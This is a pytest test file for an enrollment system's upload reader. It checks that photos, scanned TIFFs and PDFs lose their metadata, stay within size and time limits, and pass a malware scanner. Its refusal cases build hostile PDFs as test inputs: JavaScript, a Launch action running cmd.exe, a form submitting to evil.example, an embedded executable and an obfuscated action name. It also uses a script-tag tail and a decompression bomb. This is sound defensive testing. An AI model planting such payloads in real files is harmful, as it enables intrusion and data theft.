"""Strangers' files, read in a process of their own: what is kept, what is refused and why."""

import hashlib
import io
import socket
import threading
import time
from contextlib import suppress
from pathlib import Path

import pypdfium2
import pytest
from PIL import Image, TiffImagePlugin
from pypdf import PdfReader
from pytest_django import Settings

from enrollment.core.files import Unfit
from enrollment.documents import reading
from enrollment.documents.reading import read_file
from tests.fakes.files import fax, hiding, moving, pdf, photograph, picture, running, sheet

JAVASCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}


def opened(body: bytes) -> Image.Image:
    return Image.open(io.BytesIO(body))


@pytest.mark.asvs("14.2.8")
def test_a_photograph_is_kept_the_right_way_up_without_what_the_camera_wrote() -> None:
    taken = photograph()
    assert opened(taken).getexif()
    kept = read_file(taken)
    assert kept.content_type == "image/jpeg"
    assert opened(kept.body).size == (400, 640)
    assert not opened(kept.body).getexif()
    for told in (b"Fictional phone", b"Alder Street", b"Exif"):
        assert told not in kept.body
        assert told not in kept.pictures[0]


def test_what_stands_behind_a_picture_is_dropped() -> None:
    """A phone's second view or short clip; nobody would see it, and it says where one was."""
    kept = read_file(picture() + b"\0\0\0\x18ftypmp42 clip of a street")
    assert b"street" not in kept.body


@pytest.mark.parametrize("mode", ["RGBA", "LA", "P", "1", "L", "I;16"])
def test_a_png_of_any_kind_is_seen_on_white(mode: str) -> None:
    kept = read_file(picture("PNG", mode=mode, color=None))
    assert kept.content_type == "image/png"
    assert opened(kept.body).mode in ("RGB", "L")
    assert opened(kept.pictures[0]).format == "JPEG"


def test_a_large_picture_is_shown_smaller() -> None:
    kept = read_file(picture(size=(4000, 3000)))
    assert opened(kept.body).size == (4000, 3000)
    assert opened(kept.pictures[0]).size == (1600, 1200)


def test_a_pdf_is_kept_as_it_came_with_a_picture_of_each_page() -> None:
    body = pdf(3)
    kept = read_file(body)
    assert (kept.content_type, kept.body, kept.pages) == ("application/pdf", body, 3)
    assert {opened(each).format for each in kept.pictures} == {"JPEG"}


def drawn_of(body: bytes, page: int = 0) -> Image.Image:
    """The page of a PDF, drawn with as many dots as its picture has."""
    drawn: Image.Image = pypdfium2.PdfDocument(body)[page].render(scale=1).to_pil()
    return drawn


def test_a_fax_is_kept_as_a_pdf_of_its_pages_without_loss() -> None:
    kept = read_file(fax(sheet(), sheet(), sheet()))
    assert (kept.content_type, kept.pages) == ("application/pdf", 3)
    assert kept.body.startswith(b"%PDF-")
    assert {opened(each).format for each in kept.pictures} == {"JPEG"}
    (image,) = PdfReader(io.BytesIO(kept.body)).pages[1].images
    assert image.image is not None
    assert image.image.mode == "1"
    assert image.image.size == (1_728, 2_200)


def test_a_fax_in_the_coarse_resolution_is_as_high_as_its_paper() -> None:
    kept = read_file(fax(sheet((1_728, 1_100)), dpi=(204, 98)))
    width, height = opened(kept.pictures[0]).size
    assert height / width == pytest.approx(2_290 / 1_728, rel=0.01)


@pytest.mark.parametrize(
    ("mode", "compression"),
    [
        *(("RGB", "tiff_lzw"), ("RGBA", "raw"), ("L", "tiff_deflate"), ("P", "tiff_lzw")),
        *(("CMYK", "raw"), ("1", "tiff_deflate"), ("I;16", "tiff_lzw")),
    ],
)
def test_a_scanned_tiff_of_any_kind_is_read(mode: str, compression: str) -> None:
    page = Image.new(mode, (300, 200))
    kept = read_file(fax(page, page, compression=compression, dpi=(300, 300)))
    assert kept.pages == 2
    assert drawn_of(kept.body).size == (72, 48)


def test_a_tiff_lying_on_its_side_is_kept_the_right_way_up() -> None:
    tags = TiffImagePlugin.ImageFileDirectory_v2()
    tags[274] = 6
    out = io.BytesIO()
    sheet((400, 300)).save(out, "TIFF", tiffinfo=tags)
    assert opened(read_file(out.getvalue()).pictures[0]).size == (300, 400)


def test_what_a_scanner_wrote_beside_a_tiff_is_gone() -> None:
    out = io.BytesIO()
    sheet((300, 200)).save(out, "TIFF", software="Fictional scanner", artist="Rosa Delgado")
    body = out.getvalue() + b"<script>alert(1)</script>"
    kept = read_file(body)
    for told in (b"Fictional scanner", b"Rosa Delgado", b"script"):
        assert told in body
        assert told not in kept.body


def test_a_tiff_that_unpacks_to_gigabytes_ends_in_a_sentence() -> None:
    """Four pages of 49 million points in colour, packed into less than a megabyte."""
    large = Image.new("RGB", (7_000, 7_000))
    body = fax(large, large, large, large, compression="tiff_deflate")
    assert len(body) < 1_000_000
    began = time.monotonic()
    with suppress(Unfit):
        read_file(body)
    assert time.monotonic() - began < reading.SECONDS


def noise(size: int) -> bytes:
    """The same at every run: chance may look like a picture of enormous size."""
    return hashlib.shake_128(b"noise").digest(size)


REFUSED = {
    "fax cut off": (fax(sheet())[:-30], "This picture is damaged or ends too early"),
    "fax of noise": (b"II*\0\x08\0\0\0" + noise(900), "This picture is damaged"),
    "fax of 51 pages": (fax(*[sheet((8, 8))] * 51), "This TIFF has more pages than 50."),
    "moving": (moving(), "This picture moves; attach a still one."),
    "cut off": (picture(size=(300, 300))[:-40], "This picture is damaged or ends too early"),
    "garbled": (b"\xff\xd8\xff" + noise(200), "This picture is damaged or ends too early"),
    "500 pages": (pdf(500), "This PDF has 500 pages; the most is 50."),
    "no page": (pdf(0), "This PDF"),
    "locked": (pdf(1, lambda w: w.encrypt("secret")), "This PDF is locked with a password"),
    "script": (pdf(1, running(JAVASCRIPT)), "This PDF holds a script"),
    "program": (pdf(1, running({"/S": "/Launch", "/F": "cmd.exe"})), "This PDF holds a script"),
    "sender": (
        pdf(1, running({"/S": "/SubmitForm", "/F": "https://evil.example"})),
        "This PDF holds a script",
    ),
    "another file": (pdf(1, lambda w: w.add_attachment("a.exe", b"MZ")), "This PDF holds a script"),
    "in hex": (
        pdf(1, running(JAVASCRIPT)).replace(b"/JavaScript", b"/JavaScr#69pt"),
        "This PDF holds a script",
    ),
    "hidden": (pdf(1, hiding({"/S": "/URI", "/JS": "x"})), "This PDF holds a script"),
    "noise": (b"%PDF-1.7\n" + b"\x93\x01" * 900 + b"\n%%EOF", "This PDF is damaged"),
}


@pytest.mark.asvs("5.2.1", "5.2.6")
@pytest.mark.parametrize("name", REFUSED)
def test_what_is_refused_says_why_in_one_sentence(name: str) -> None:
    body, sentence = REFUSED[name]
    with pytest.raises(Unfit) as unfit:
        read_file(body)
    assert str(unfit.value).startswith(sentence)


def test_a_web_link_in_a_pdf_is_nothing_to_refuse() -> None:
    assert read_file(pdf(1, running({"/S": "/URI", "/URI": "https://lakeside.example"}))).pages == 1


def test_a_file_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "SECONDS", 0.01)
    with pytest.raises(Unfit, match="takes too much to read"):
        read_file(picture())


def test_a_decoder_that_dies_takes_nothing_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "CHILD", "enrollment.documents.nowhere")
    with pytest.raises(Unfit, match="takes too much to read"):
        read_file(picture())


class Clamd:
    """A scanner on a socket that answers one thing, whatever it is sent."""

    def __init__(self, path: Path, answer: bytes) -> None:
        self.answer, self.sent = answer, b""
        self.listening = socket.socket(socket.AF_UNIX)
        self.listening.bind(str(path))
        self.listening.listen()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        wire, _ = self.listening.accept()
        with wire:
            while not self.sent.endswith(bytes(4)):
                self.sent += wire.recv(65_536)
            wire.sendall(self.answer)


@pytest.fixture
def path(tmp_path: Path, settings: Settings) -> Path:
    path = tmp_path / "clamd"
    settings.MALWARE_SCANNER = f"unix://{path}"
    return path


@pytest.mark.asvs("5.4.3")
def test_the_scanner_sees_every_byte_before_anything_is_kept(path: Path) -> None:
    clamd, body = Clamd(path, b"stream: OK\0"), picture()
    assert read_file(body).pages == 1
    clamd.listening.close()
    assert clamd.sent.startswith(b"zINSTREAM\0" + len(body).to_bytes(4, "big") + body[:100])


@pytest.mark.asvs("5.4.3")
def test_what_the_scanner_knows_is_refused(path: Path) -> None:
    clamd = Clamd(path, b"stream: Eicar-Test-Signature FOUND\0")
    with pytest.raises(Unfit, match="The malware scanner refused this file"):
        read_file(picture())
    clamd.listening.close()


@pytest.mark.asvs("16.5.3")
@pytest.mark.parametrize("answer", [b"", b"INSTREAM size limit exceeded. ERROR\0", b"stream: "])
def test_a_scanner_that_does_not_say_yes_says_no(path: Path, answer: bytes) -> None:
    clamd = Clamd(path, answer)
    with pytest.raises(Unfit, match="The malware scanner does not answer, so nothing was kept"):
        read_file(picture())
    clamd.listening.close()


@pytest.mark.asvs("16.5.3")
def test_a_scanner_that_is_not_there_says_no(path: Path) -> None:
    with pytest.raises(Unfit, match="The malware scanner does not answer, so nothing was kept"):
        read_file(picture())
